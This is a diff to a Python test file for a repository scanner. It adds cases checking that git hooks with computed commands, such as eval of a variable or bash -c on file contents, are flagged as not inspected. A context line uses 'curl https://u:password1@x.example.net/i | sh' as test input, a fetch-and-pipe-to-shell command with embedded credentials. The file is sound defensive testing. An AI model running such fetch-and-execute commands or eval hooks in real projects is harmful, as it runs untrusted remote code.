@@ -98,6 +98,40 @@ def test_a_host_is_known_by_the_trusted_side_alone(
     assert (finding.rule, finding.level) == (f"agent_config/{rule}", Level.WARN)
 
 
+@each_of(
+    ("path", "text", "is_listed"),
+    [
+        (".husky/pre-commit", "$RUNNER --fast\n", True),
+        (".githooks/pre-commit", '#!/bin/sh\neval "$CHECK"\n', True),
+        (".githooks/pre-push", '#!/bin/bash\nbash -c "$(cat x)"\n', True),
+        ("hooks/pre-commit", "#!/bin/sh\n`make -s name` a\n", True),
+        (
+            ".pre-commit-config.yaml",
+            "repos:\n- repo: local\n  hooks:\n  - id: a\n    entry: $TOOL a\n",
+            True,
+        ),
+        ("/".join((".husky", "commit-msg")), "npx --no commitlint --edit $1\n", False),
+        (".githooks/pre-commit", '#!/bin/sh\nPY=python3\n"$PY" -m a\n', False),
+        (
+            ".githooks/pre-commit",
+            '#!/bin/sh\n"$(git rev-parse --show-toplevel)/bin/x"\n',
+            False,
+        ),
+        (".githooks/pre-commit", "#!/bin/sh\nruff check $FILES\n", False),
+    ],
+)
+def test_a_computed_command_of_a_hook_is_listed(
+    scan: Scan, path: str, text: str, *, is_listed: bool
+) -> None:
+    listed = [
+        item
+        for item in scan(path, text).not_inspected
+        if "computed command" in item.reason
+    ]
+    assert bool(listed) is is_listed
+    assert all(item.kind == "not_applicable" for item in listed)
+
+
 def test_a_downloads_password_is_not_in_the_message(scan: Scan) -> None:
     (finding,) = scan(
         "a.sh", "curl https://u:" + "pass" + "word1@x.example.net/i | sh\n"
